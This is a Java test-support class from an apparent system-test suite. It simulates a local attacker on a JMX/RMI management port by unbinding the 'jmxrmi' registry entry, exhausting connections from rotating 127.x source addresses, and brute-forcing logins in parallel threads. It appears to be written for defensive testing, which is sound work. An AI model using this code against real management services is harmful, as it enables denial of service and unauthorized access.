// SPDX-License-Identifier: GPL-2.0-or-later
package org.vesper.tests.system;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Path;
import java.rmi.registry.LocateRegistry;
import java.rmi.registry.Registry;
import java.rmi.server.RMISocketFactory;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Deque;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicLong;
import javax.management.remote.JMXConnector;
import javax.management.remote.JMXConnectorFactory;
import javax.management.remote.JMXServiceURL;
import org.vesper.tests.support.Jdk;
import org.vesper.tests.support.RunningCommand;

/**
 * A program of another user on the same machine, without a credential, that attacks the management port until it is ended. It comes from
 * many addresses, since every local user has all of 127.0.0.0/8.
 */
final class JmxAttacker {

    private static final int GUESSERS = 8;
    private static final List<String> NAMES = List.of("admin", "nobody", "vera");
    private static final long OFTEN = 40;

    private static final String HOST = "127.0.0.1";
    private static final byte[] GREETING = {'J', 'R', 'M', 'I', 0, 2, 0x4B};

    private final int port;

    private JmxAttacker(int port) {
        this.port = port;
    }

    /** Starts the program: unbind, hold COUNT, or guess. */
    static RunningCommand start(Jdk jdk, int port, String... attack) {
        List<String> command = new ArrayList<>(List.of(jdk.home().resolve("bin/java").toString(), "-cp",
                Path.of(JmxAttacker.class.getProtectionDomain().getCodeSource().getLocation().getPath()).toString(),
                JmxAttacker.class.getName(), String.valueOf(port)));
        command.addAll(List.of(attack));
        return RunningCommand.start(Path.of("/"), Map.of(), command);
    }

    public static void main(String[] words) throws Exception {
        JmxAttacker attacker = new JmxAttacker(Integer.parseInt(words[0]));
        switch (words[1]) {
            case "unbind" -> attacker.unbind();
            case "hold" -> attacker.hold(Integer.parseInt(words[2]));
            case "guess" -> attacker.guess();
            default -> throw new IllegalArgumentException(words[1]);
        }
    }

    private void unbind() throws IOException {
        Registry registry = LocateRegistry.getRegistry(HOST, port, Socket::new);
        for (long tries = 1; true; tries++) {
            try {
                registry.unbind("jmxrmi");
                System.out.println("removed the entry");
            } catch (Exception e) {
                if (tries == 100) {
                    System.out.println("tried often: " + e);
                }
            }
        }
    }

    /** Keeps so many connections, half of them with a greeting, and opens another one for each that is closed. */
    private void hold(int count) throws IOException, InterruptedException {
        Deque<Socket> held = new ArrayDeque<>();
        for (long opened = 1; true; opened++) {
            try {
                Socket socket = fromSomewhere(HOST, port, opened);
                if (opened % 2 == 0) {
                    socket.getOutputStream().write(GREETING);
                }
                held.add(socket);
            } catch (IOException e) {
                // Closed at once, or the system's queue is full.
            }
            if (opened == count) {
                System.out.println("opened " + count);
            }
            if (held.size() >= count) {
                held.remove().close();
                // The pace of an attacker who reopens what was closed, and leaves processor time to the server that is attacked.
                Thread.sleep(20);
            }
        }
    }

    private void guess() throws IOException {
        AtomicLong opened = new AtomicLong();
        RMISocketFactory.setSocketFactory(new RMISocketFactory() {
            @Override
            public Socket createSocket(String host, int to) throws IOException {
                return fromSomewhere(host, to, opened.incrementAndGet());
            }

            @Override
            public ServerSocket createServerSocket(int unused) {
                throw new UnsupportedOperationException();
            }
        });
        JMXServiceURL url = new JMXServiceURL("service:jmx:rmi:///jndi/rmi://" + HOST + ":" + port + "/jmxrmi");
        AtomicLong tries = new AtomicLong();
        for (int guesser = 0; guesser < GUESSERS; guesser++) {
            String name = NAMES.get(guesser % NAMES.size());
            new Thread(() -> guess(url, name, tries)).start();
        }
    }

    private void guess(JMXServiceURL url, String name, AtomicLong tries) {
        while (true) {
            String[] login = {name, "guess " + tries.get()};
            try (JMXConnector connector = JMXConnectorFactory.connect(url, Map.of(JMXConnector.CREDENTIALS, login))) {
                System.out.println("let in: " + connector.getConnectionId());
            } catch (SecurityException | IOException e) {
                if (tries.incrementAndGet() == OFTEN) {
                    System.out.println("tried often: " + e);
                }
            }
        }
    }

    private static Socket fromSomewhere(String host, int port, long number) throws IOException {
        return new Socket(host, port, InetAddress.getByName("127.0." + number / 200 % 200 + "." + (2 + number % 200)), 0);
    }
}
